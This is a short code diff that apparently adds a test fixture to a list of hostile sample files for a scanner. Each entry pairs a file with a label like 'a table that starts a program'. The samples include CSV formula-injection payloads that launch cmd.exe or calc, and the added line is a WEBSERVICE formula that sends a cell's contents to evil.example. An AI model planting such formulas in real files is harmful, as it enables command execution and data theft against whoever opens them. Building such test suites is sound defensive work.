@@ -75,6 +75,7 @@ const others: File[] = [
   ['a.txt', '%!PS\n(x) show', 'embedded program'],
   ['a.eml.txt', `From: a\nSubject: b\n${mail}`, 'embedded program'],
   ['a.csv', "name,=cmd|'/c calc'!A0", 'a table that starts a program'],
+  ['a.csv', 'name,=WEBSERVICE("http://evil.example/?"&A2)', 'a table that starts a program'],
   ['a.csv', '"+MSEXCEL|\'\\..\\..\\cmd.exe\'!x"', 'a table that starts a program'],
   ['a.tsv', utf16("x\t@sum(1)-cmd|'x'!A"), 'a table that starts a program'],
 ];
